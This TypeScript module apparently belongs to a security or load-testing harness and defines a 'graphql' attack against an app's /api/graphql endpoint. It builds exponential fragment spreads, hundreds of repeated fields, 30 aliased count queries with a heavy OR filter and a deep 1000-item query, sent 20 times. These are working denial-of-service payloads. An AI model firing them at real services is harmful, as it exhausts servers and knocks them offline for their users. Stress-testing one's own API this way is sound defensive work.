import { repeat } from './repeat.ts'
import { type Attack, from } from './types.ts'

const ask = (query: string, variables?: object) => ({
  path: '/api/graphql',
  method: 'POST',
  headers: { 'Content-Type': 'application/json', ...from('203.0.113.5') },
  body: JSON.stringify({ query, variables }),
})

const many = (count: number, one: (index: number) => string) =>
  Array.from({ length: count }, (_, index) => one(index)).join(' ')

/** Each fragment spreads the next one twice: 2.3 KB of text, and more fields than there are atoms. */
const doubled = `{ Event(id: 1) { ...f0 } }
  ${many(60, (i) => `fragment f${i} on Event { ...f${i + 1} ...f${i + 1} }`)} fragment f60 on Event { id }`

/** A field that validation compares pair by pair. */
const repeated = `{ ${many(19, () => `Event(id: 1) { ${many(20, () => 'id')} }`)} }`

const counts = `query ($where: Event_where) {
  ${many(30, (i) => `a${i}: countEvents(where: $where) { totalDocs }`)} }`

const words = many(400, (i) => `w${i}`)
const filter = { OR: Array.from({ length: 50 }, () => ({ description: { like: words } })) }

const queries = [
  ask(doubled),
  ask(repeated),
  ask(counts, { where: filter }),
  ask('subscription { x }'),
  ask('{ Events(limit: 1000) { docs { registrations { totalDocs } } } }'),
]

export const graphqlQueries: Attack = {
  name: 'graphql',
  title: 'Doubled fragments, repeated fields and 30 filters in one GraphQL query',
  run: (context) => repeat(context, 20, (index) => queries[index % queries.length]!),
}
